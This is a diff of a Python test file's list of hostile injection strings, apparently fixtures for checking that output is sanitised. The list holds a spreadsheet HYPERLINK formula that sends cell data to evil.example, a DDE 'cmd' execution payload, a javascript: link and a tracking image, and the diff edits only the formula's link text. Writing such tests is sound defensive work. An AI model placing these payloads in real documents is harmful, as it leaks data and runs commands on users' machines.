@@ -138,7 +138,7 @@ def _embedding_keys(texts):
 # --- 2. injection: CSV formulas, Markdown and HTML, full document ids ---
 
 HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click here for the full statement from the ministry") was posted by the ministry.',
+    '=HYPERLINK("http://evil.example/?"&A1,"The full statement from the ministry") was posted by the ministry.',
     "+cmd|' /C calc'!A0 was the command the attackers sent to the ministry computers that night.",
     "The ministry published a statement [x](javascript:alert(1)) about the talks on Tuesday evening.",
     "The ministry published a photo ![](http://evil.example/track.png) of the talks on Tuesday evening.",
